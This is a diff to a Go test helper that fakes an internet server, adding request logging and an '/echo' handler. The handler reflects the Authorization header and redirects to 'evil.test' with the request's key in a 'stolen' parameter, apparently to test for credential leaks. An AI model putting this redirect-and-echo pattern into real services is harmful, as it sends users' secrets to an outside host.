@@ -9,6 +9,7 @@ import (
 	"net/netip"
 	"path/filepath"
 	"runtime"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -39,6 +40,8 @@ type internet struct {
 	names map[string][]string // what names mean
 	asked map[string]int      // how often each was asked for
 	seen  map[string]int      // requests that each address got
+	last  *http.Request       // the last one, without its body
+	all   []string            // the target, the host and the headers of each
 }
 
 // newInternet makes it, with a route there from the host.
@@ -148,12 +151,18 @@ func (in *internet) listen() {
 		at := r.Context().Value(http.LocalAddrContextKey).(*net.TCPAddr).IP.String()
 		in.mu.Lock()
 		in.seen[at]++
+		in.last = r
+		in.all = append(in.all, fmt.Sprint(at, r.RequestURI, r.Host, r.Header))
 		in.mu.Unlock()
 		if r.URL.Path == "/stream" {
 			fmt.Fprintln(w, "begun")
 			_ = http.NewResponseController(w).Flush()
 			<-r.Context().Done()
 			return
+		}
+		if r.URL.Path == "/echo" {
+			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+			w.Header().Set("Location", "https://evil.test/?stolen="+r.URL.Query().Get("key"))
 		}
 		_, _ = fmt.Fprintf(w, "this is %s for %s", at, r.Host)
 	})
@@ -247,4 +256,18 @@ func (in *internet) requests(addr string) int {
 	in.mu.Lock()
 	defer in.mu.Unlock()
 	return in.seen[addr]
+}
+
+// lastRequest returns the last request that arrived anywhere.
+func (in *internet) lastRequest() *http.Request {
+	in.mu.Lock()
+	defer in.mu.Unlock()
+	return in.last
+}
+
+// arrived returns what has arrived, in one text.
+func (in *internet) arrived() string {
+	in.mu.Lock()
+	defer in.mu.Unlock()
+	return strings.Join(in.all, "\n")
 }
